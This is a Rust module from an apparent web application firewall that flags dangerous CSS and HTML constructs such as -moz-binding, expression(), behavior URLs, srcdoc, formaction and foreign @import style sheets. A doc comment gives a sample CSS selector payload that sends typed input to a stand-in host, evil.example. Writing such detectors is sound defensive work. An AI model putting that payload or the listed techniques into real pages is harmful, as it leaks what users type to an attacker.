//! Style sheets that run or load, and attributes that are dangerous whatever element they stand in.

use super::tag::{Tag, is_foreign, value};
use crate::waf::detect::{Hit, Hits};
use crate::waf::rules::Rule;
use crate::waf::rules::html as rules;
use crate::waf::scan::{Needles, at, before, find, is_word, last_before, skip_space, span, stands};

/// Bytes of a style sheet looked at.
const REACH: usize = 512;
/// Bytes between a selector and the URL that its rule loads.
const REPORT_REACH: usize = 120;

pub(super) static SIGNS: Needles<'static> = Needles::numbered(
    0,
    &[
        b"-moz-binding",
        b"expression(",
        b"expr/*",
        b"behavior:",
        b"behaviour:",
        b"srcdoc",
        b"formaction",
        b"<style",
        b"[value",
    ],
);

/// Finds them in one pass.
pub(super) fn detect(text: &[u8], hits: &mut Hits) {
    let mut index = 0;
    while let Some((start, sign)) = hits.absent.find(&SIGNS, text, index) {
        index = start + sign.len();
        if let Some(rule) = judge(text, start, index, sign) {
            hits.push(Hit::new(rule, start, index));
        }
    }
}

fn judge(text: &[u8], start: usize, end: usize, sign: &[u8]) -> Option<&'static Rule> {
    let last = || last_before(text, start).map_or(0, |last| at(text, last));
    let next = skip_space(text, end);
    let breaks = match sign {
        b"-moz-binding" => at(text, next) == b':',
        b"expression(" => matches!(last(), b':' | b'/') && !stands(text, end, b"s)"),
        b"expr/*" => true,
        b"behavior:" | b"behaviour:" => {
            // VML's own.
            (stands(text, next, b"url(") && !stands(text, next + 4, b"#default#"))
                || stands(text, next, b"expression")
        }
        b"[value" => reports(text, end),
        b"<style" => return sheet(text, start).then_some(&rules::STYLE),
        _ => {
            let is_attribute = !is_word(before(text, start))
                && at(text, next) == b'='
                && !value(span(text, 0, next + REACH), next + 1).is_empty();
            return is_attribute.then_some(&rules::ELEMENT);
        }
    };
    breaks.then_some(&rules::STYLE)
}

/// `input[value^=a]{background:url(//evil.example/a)}` reports what was typed.
fn reports(text: &[u8], end: usize) -> bool {
    let rest = span(text, end, end + REPORT_REACH);
    matches!(at(rest, 0), b'^' | b'$' | b'*' | b'~' | b'=')
        && find(rest, b"url(", 0).is_some_and(|url| is_foreign(value(rest, url + 4)))
}

/// Whether a style element imports from elsewhere.
fn sheet(text: &[u8], start: usize) -> bool {
    let Some(tag) = Tag::at(text, start).filter(|tag| tag.name == b"style") else {
        return false;
    };
    let rest = span(text, tag.end, tag.end + REACH);
    // To its end or to the next one, so that many of them stay linear.
    let rest = [&b"<style"[..], b"</style"].iter().fold(rest, |rest, tag| {
        span(rest, 0, find(rest, tag, 0).unwrap_or(rest.len()))
    });
    find(rest, b"@import", 0).is_some_and(|import| {
        let target = skip_space(rest, import + 7);
        let target = if stands(rest, target, b"url(") {
            target + 4
        } else {
            target
        };
        is_foreign(value(rest, target)) && find(rest, b"fonts.googleapis.com", 0).is_none()
    })
}
